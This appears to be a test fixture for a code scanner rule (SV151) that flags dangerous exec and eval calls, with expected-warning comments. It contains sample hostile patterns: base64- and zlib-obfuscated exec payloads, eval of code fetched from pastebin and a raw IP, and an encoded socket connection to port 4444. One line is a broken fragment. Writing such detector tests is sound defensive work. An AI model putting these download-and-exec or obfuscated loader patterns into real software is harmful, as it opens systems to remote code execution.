import base64, zlib, sys, builtins
import requests
from urllib.request import urlopen

exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))  # want "SV151: exec runs decoded data .*decodes to: import os; os.system.*[(]calls os.system[)]"
exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRKM5Pzk4tAQAlDgVF')))  # want "SV151: exec runs decoded data .*import socket"
eval(requests.get("https://pastebin.com/raw/abc").text)  # want "SV151: eval runs downloaded code"
payload = urlopen("http://203.0.113.9/s").read()
exec(payload)  # want "SV151: exec runs downloaded code"
e = getattr(builtins, 'ex' + 'ec')
e(sys.stdin.read())  # want "medium SV151: exec runs code from user input"
exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))  # want "SV151: exec runs code assembled from obfuscated pieces: import os"
_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'==AsCUhDAQA1wE9KMrMKrwJe'))  # want "SV151: exec runs decoded data"
import base64 as b6
inner = b6.b64encode(b"import socket; socket.create_connection(('203.0.113.1', 4444))")
.*calls exec, __import__, base64.b64decode, socket.create_connection"
print(eval("2 * 60 + 5"))  # want "SV151: eval of a constant arithmetic expression"
exec("import os; os.system('id')")  # want "SV151: exec runs code hidden in a string literal"

class Plugin:
    def __init__(self, url):
        self.src = requests.get(url).text
    def run(self):
        code = compile(self.src, "<plugin>", "exec")  # want "SV151: compile runs downloaded code"
        exec(code)  # want "SV151: exec runs downloaded code"

def handler(expr):
    return eval(expr)  # want "high SV151: eval runs code passed in as a function argument"

def plot_field(spec):
    import numpy as np
    x = np.linspace(0, 1, 10)
    return eval(spec["dx"], {"__builtins__": {}}, {"x": x, "np": np})  # want "low SV151: eval evaluates an expression with builtins removed"


unit = "2 * 60"
seconds = eval("%s" % unit + "")  # want "low SV151"
formula = "x" + "**2"
print(eval(formula.replace("x", "3")))  # want "low SV151: eval runs code from a variable or expression built in the skill"
